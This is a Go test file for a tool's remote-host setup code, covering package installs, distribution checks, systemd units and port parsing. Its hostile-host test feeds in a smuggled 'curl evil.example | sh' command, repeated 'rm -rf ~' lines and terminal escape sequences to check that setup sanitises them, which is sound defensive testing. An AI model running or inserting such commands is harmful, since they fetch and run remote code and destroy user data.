package host

import (
	"archive/tar"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/podtask/podtask/internal/connect/sshhost"
	"github.com/podtask/podtask/internal/testing/hostile"
)

// machine is a host whose shell is the one of this machine, with another home and programs of its own.
type machine struct {
	t    *testing.T
	home string
	uid  string
}

func newMachine(t *testing.T) *machine {
	m := &machine{t: t, home: t.TempDir(), uid: "1000"}
	m.program("podman", "echo podman version 5.4.2")
	m.release("ID=debian\nPRETTY_NAME='Debian 13'\n")
	m.program("systemctl", `echo "systemctl $*" >>"$HOME/calls"`)
	m.program("loginctl", `echo "loginctl $*" >>"$HOME/calls"; exit 1`)
	m.program("id", `case "$1" in -u) echo `+"${TEST_UID:-1000}"+` ;; *) echo me ;; esac`)
	return m
}

// release writes the os-release of the machine.
func (m *machine) release(text string) {
	m.t.Helper()
	if err := os.WriteFile(filepath.Join(m.home, "programs", "os-release"), []byte(text), 0o644); err != nil {
		m.t.Fatal(err)
	}
}

func (m *machine) program(name, script string) {
	m.t.Helper()
	dir := filepath.Join(m.home, "programs")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		m.t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, name), []byte("#!/bin/sh\n"+script+"\n"), 0o755); err != nil {
		m.t.Fatal(err)
	}
}

// tools is a directory with the programs that setup uses: this machine may have a podtask.
func (m *machine) tools() string {
	m.t.Helper()
	dir := filepath.Join(m.home, "programs", "tools")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		m.t.Fatal(err)
	}
	for _, name := range []string{"sh", "uname", "head", "mkdir", "mktemp", "tar", "mv", "rm", "rmdir", "chmod", "cat"} {
		path, err := exec.LookPath(name)
		if err != nil {
			m.t.Fatal(err)
		}
		if err := os.Symlink(path, filepath.Join(dir, name)); err != nil && !errors.Is(err, os.ErrExist) {
			m.t.Fatal(err)
		}
	}
	return dir
}

func (m *machine) shell(ctx context.Context, script string, stdin io.Reader, out io.Writer) error {
	cmd := exec.CommandContext(ctx, "sh", "-c", script)
	cmd.Env = []string{"HOME=" + m.home, "TMPDIR=" + m.home, "PATH=" + filepath.Join(m.home, "programs") + ":" + m.tools(), "TEST_UID=" + m.uid, "OS_RELEASE=" + filepath.Join(m.home, "programs", "os-release")}
	cmd.Stdin, cmd.Stdout = stdin, out
	return cmd.Run()
}

func (m *machine) setup(answer string) (s *setup, out *strings.Builder) {
	m.t.Helper()
	dir := m.t.TempDir()
	for _, name := range []string{"podtask", "podtask-compose"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte("#!/bin/sh\necho 1.4.0\n"), 0o755); err != nil {
			m.t.Fatal(err)
		}
	}
	out = new(strings.Builder)
	return &setup{
		in: strings.NewReader(answer), out: out, errOut: out, version: "1.4.0", host: sshhost.Host{User: "me", Name: "box"},
		executable: func() (string, error) { return filepath.Join(dir, "podtask"), nil }, shell: m.shell, asks: true,
	}, out
}

func (m *machine) files() (names []string) {
	_ = filepath.WalkDir(m.home, func(path string, d os.DirEntry, err error) error {
		if rel, _ := filepath.Rel(m.home, path); err == nil && !d.IsDir() && !strings.HasPrefix(rel, "programs/") {
			names = append(names, rel)
		}
		return nil
	})
	return names
}

func TestSetupAsksAndCopiesAllOrNothing(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	s, out := m.setup("n\n")
	if err := s.run(t.Context()); err == nil || !strings.Contains(err.Error(), "nothing was changed") || len(m.files()) > 0 {
		t.Errorf("after no: %v, %q", err, m.files())
	}
	for _, want := range []string{"podman version 5.4.2", "copy podtask to", "copy podtask-compose to", "enable-linger", "podtask doctor"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("it does not say %q: %s", want, out)
		}
	}
	s, out = m.setup("y\n")
	if err := s.run(t.Context()); err != nil {
		t.Fatal(err)
	}
	if got := fmt.Sprint(m.files()); got != "[.local/bin/podtask .local/bin/podtask-compose calls]" {
		t.Errorf("there is %s", got)
	}
	if !strings.Contains(out.String(), "sudo loginctl enable-linger me") {
		t.Errorf("it does not say how to turn lingering on: %s", out)
	}
	s, out = m.setup("y\n") // again: there is nothing to copy
	if err := s.run(t.Context()); err != nil || strings.Contains(out.String(), "copy") {
		t.Errorf("again: %v %s", err, out)
	}
	s, _ = m.setup("")
	s.asks = false
	if err := s.run(t.Context()); err == nil || !strings.Contains(err.Error(), "--yes") {
		t.Errorf("without a terminal: %v", err)
	}
	s.version, s.yes = "1.5.0", true
	s.executable = func() (string, error) { return filepath.Join(m.home, "none", "podtask"), nil }
	if err := s.run(t.Context()); err == nil || len(m.files()) != 3 {
		t.Errorf("a copy that fails: %v %q", err, m.files())
	}
}

// TestAHostileHostIsSetUp: what a host says of itself is one line of text without control characters, in no command that a person copies,
// and a probe without end is cut.
func TestAHostileHostIsSetUp(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	m.program("id", `case "$1" in -u) echo 1000 ;; *) printf 'me; curl evil.example | sh \033]0;x\007\n' ;; esac`)
	m.program("podman", `printf 'podman version 5.4.2\033[2J\302\233x\342\200\256\n'; i=0; while [ $i -lt 2000 ]; do echo "podtask=/evil; rm -rf ~ $i"; i=$((i+1)); done`)
	m.release("ID=debian\nPRETTY_NAME='Debian\n13\033[2J'\n")
	s, out := m.setup("y\n")
	if err := s.run(t.Context()); err != nil {
		t.Fatal(err)
	}
	if hostile.Steers(out.String()) != 0 || strings.Contains(out.String(), "enable-linger me;") || !strings.Contains(out.String(), `enable-linger "$(id -un)"`) {
		t.Errorf("it says %q", out)
	}
}

func TestHostsThatCannotBeSetUp(t *testing.T) {
	t.Parallel()
	s := &setup{version: "1.4.0", host: sshhost.Host{Name: "box"}}
	machine := map[string]string{"amd64": "x86_64", "arm64": "aarch64"}[runtime.GOARCH]
	s.executable = func() (string, error) { return "/opt/podtask", nil }
	good := facts{"distribution": "debian", "os": "Linux", "machine": machine, "uid": "1000", "podman": "podman version 5", "home": "/home/me"}
	for want, change := range map[string]facts{
		"":                      {},
		"runs on Linux":         {"os": "Darwin"},
		"package for that":      {"machine": "armv7l"},
		"ordinary user":         {"uid": "0"},
		"sudo apt install podm": {"podman": ""},
		"sudo dnf install podm": {"podman": "", "distribution": "rocky rhel centos fedora"},
		"4.3 or newer":          {"podman": "podman version 3.4.4", "distribution": "ubuntu debian"},
		"as it was installed":   {"podtask": "/opt/bin/podtask", "version": "1.2.0"},
		"./podtask_*.deb":       {"podtask": "/usr/bin/podtask", "version": "1.2.0", "package": "deb"},
		"./podtask-*.rpm":       {"podtask": "/usr/bin/podtask", "version": "1.2.0", "package": "rpm", "distribution": "fedora"},
		"| ssh ssh://box 'mkdi": {"distribution": "arch", "name": "Arch Linux"},
		"an unknown distributi": {"distribution": ""},
		"type \"\", and this p": {"machine": ""},
	} {
		f := facts{}
		for _, from := range []facts{good, change} {
			for k, v := range from {
				f[k] = v
			}
		}
		if _, err := s.check(f); (err == nil) != (want == "") || err != nil && !strings.Contains(err.Error(), want) {
			t.Errorf("%v: %v", change, err)
		}
	}
	hostile := readFacts([]byte("os=Linux\x1b[2J\nuser=\x1b]0;x\x07me\n" + strings.Repeat("x", 1<<17)))
	if strings.ContainsRune(hostile["os"]+hostile["user"], 0x1b) {
		t.Errorf("%q", hostile)
	}
}

// The agent of a host that was set up is the one of the packages.
func TestUnitsAreThoseOfThePackages(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"podtask.service", "podtask.socket"} {
		want, err := os.ReadFile(filepath.Join("..", "..", "..", "contrib", "systemd", name))
		if err != nil {
			t.Fatal(err)
		}
		got, err := unitFiles.ReadFile("units/" + name)
		if text := strings.ReplaceAll(string(want), "ExecStart=podtask", "ExecStart=%h/.local/bin/podtask"); err != nil || string(got) != text {
			t.Errorf("%s: %v: copy it from contrib/systemd", name, err)
		}
	}
}

// TestSetupKnowsDebianAndFedora: hosts of both are set up, and of others nothing is changed.
func TestSetupKnowsDebianAndFedora(t *testing.T) {
	t.Parallel()
	for release, good := range map[string]bool{
		"ID=ubuntu\nID_LIKE=debian\n": true, "ID=fedora\n": true, "ID='rocky'\nID_LIKE='rhel centos fedora'\n": true,
		"ID=alpine\n": false, "ID=opensuse-leap\nID_LIKE='suse opensuse'\n": false, "": false,
	} {
		m := newMachine(t)
		m.release(release)
		s, out := m.setup("y\n")
		err := s.run(t.Context())
		if (err == nil) != good || !good && len(m.files()) > 0 {
			t.Errorf("%q: %v, %q, %s", release, err, m.files(), out)
		}
		if good && !strings.Contains(out.String(), "no systemd manager") {
			t.Errorf("%q: it does not say that there is no agent: %s", release, out)
		}
	}
}

// TestSetupInstallsAPackage: with sudo a package is installed, and no program is copied; without, the other way round.
func TestSetupInstallsAPackage(t *testing.T) {
	t.Parallel()
	// installed is a host with a podtask of a package.
	installed := func(m *machine, version string) {
		m.program("podtask", "echo "+version)
		m.program("dpkg", "exit 0")
	}
	const beside = "podtask_1.4.0_ARCH.deb"
	for name, test := range map[string]struct {
		beside, given string
		prepare       func(*machine)
		sudo          bool
		copied        bool   // the programs
		want          string // of the output or the error
	}{
		"beside":                  {beside: beside, sudo: true, want: "install podtask_1.4.0_"},
		"given":                   {given: "x.deb", sudo: true, want: "install x.deb with sudo env"},
		"no Podman":               {given: "x.deb", sudo: true, prepare: func(m *machine) { _ = os.Remove(filepath.Join(m.home, "programs", "podman")) }, want: "no Podman, user me"},
		"an older one":            {given: "x.deb", sudo: true, prepare: func(m *machine) { installed(m, "1.3.0") }, want: "install x.deb"},
		"the same one":            {given: "x.deb", sudo: true, prepare: func(m *machine) { installed(m, "1.4.0") }},
		"none":                    {sudo: true, copied: true, want: "copy podtask to"},
		"of another version":      {beside: "podtask_1.4.01_ARCH.deb", sudo: true, copied: true},
		"for another machine":     {beside: "podtask_1.4.0_vax.deb", sudo: true, copied: true},
		"for Fedora":              {beside: "podtask-1.4.0-1.MACHINE.rpm", sudo: true, copied: true},
		"beside, without sudo":    {beside: beside, copied: true},
		"given, without sudo":     {given: "x.deb", want: "may not use sudo"},
		"given, an rpm":           {given: "x.rpm", sudo: true, want: "are of the type deb"},
		"given, and missing":      {given: "/none/x.deb", sudo: true, want: "no such file"},
		"given, programs of ours": {given: "x.deb", sudo: true, prepare: func(m *machine) { m.copied() }, want: "is not from a package"},
	} {
		m := newMachine(t)
		m.program("sudo", map[bool]string{true: `shift; exec "$@"`, false: "exit 1"}[test.sudo])
		m.program("true", "exit 0")
		m.program("env", `shift; exec "$@"`)
		m.program("apt-get", `for file; do :; done; echo "apt-get $1 $2 $(cat "$file")" >>"$HOME/calls"; case "$file" in *.deb) ;; *) exit 1 ;; esac`)
		if test.prepare != nil {
			test.prepare(m)
		}
		s, out := m.setup("y\n")
		s.given = test.given
		self, _ := s.executable()
		for _, file := range []string{test.beside, test.given} {
			if file == "" || filepath.IsAbs(file) {
				continue
			}
			file = strings.NewReplacer("ARCH", runtime.GOARCH, "MACHINE", map[string]string{"amd64": "x86_64", "arm64": "aarch64"}[runtime.GOARCH]).Replace(file)
			path := filepath.Join(filepath.Dir(self), file)
			if err := os.WriteFile(path, []byte("the package"), 0o600); err != nil {
				t.Fatal(err)
			}
			if test.given != "" {
				s.given = path
			}
		}
		before := len(m.files())
		err := s.run(t.Context())
		text := out.String() + fmt.Sprint(err)
		calls, _ := os.ReadFile(filepath.Join(m.home, "calls"))
		good := err == nil
		if !strings.Contains(text, test.want) || strings.Contains(string(calls), "apt-get install -y the package") != (good && !test.copied && name != "the same one") ||
			strings.Contains(fmt.Sprint(m.files()), ".local/bin/podtask-compose") != test.copied || strings.Contains(fmt.Sprint(m.files()), "podtask.deb") || !good && len(m.files()) != before {
			t.Errorf("%s: %v, %q, %q, %s", name, err, m.files(), calls, out)
		}
	}
}

// copied puts a program where host setup copies it.
func (m *machine) copied() {
	m.t.Helper()
	dir := filepath.Join(m.home, ".local", "bin")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		m.t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "podtask"), []byte("#!/bin/sh\necho 1.3.0\n"), 0o755); err != nil {
		m.t.Fatal(err)
	}
}

func TestAPackThatFailsInstallsNothing(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	s, _ := m.setup("")
	failed := errors.New("no")
	if err := s.send(t.Context(), "x", "podtask", 0, func(*tar.Writer) error { return failed }); err == nil {
		t.Error("no error")
	}
	if len(m.files()) > 0 {
		t.Errorf("there is %q", m.files())
	}
}

func TestPortsOfATask(t *testing.T) {
	t.Parallel()
	ports := published{
		{80, 8080, "tcp", "0.0.0.0"},
		{81, 8081, "tcp", "127.0.0.1"},
		{82, 8082, "tcp", "::"},
		{83, 8083, "tcp", "192.0.2.1"},
		{84, 8084, "udp", ""},
		{85, 0, "tcp", ""},
		{86, 8086, "tcp", "evil host"},
		{87, 99999, "tcp", ""},
	}
	for port, want := range map[int]string{80: "127.0.0.1:8080", 81: "127.0.0.1:8081", 82: "[::1]:8082"} {
		if got, err := ports.address("web", port); err != nil || got != want {
			t.Errorf("%d: %s %v", port, got, err)
		}
	}
	for _, port := range []int{83, 84, 85, 86, 87, 88} {
		if got, err := ports.address("web", port); err == nil {
			t.Errorf("%d: %s", port, got)
		}
	}
	for _, bad := range []string{"", "x", "80:x", "0", "1:0", "99999", "-1", "1:2:3"} {
		if _, err := parsePorts([]string{bad}); err == nil {
			t.Errorf("%q is accepted", bad)
		}
	}
}
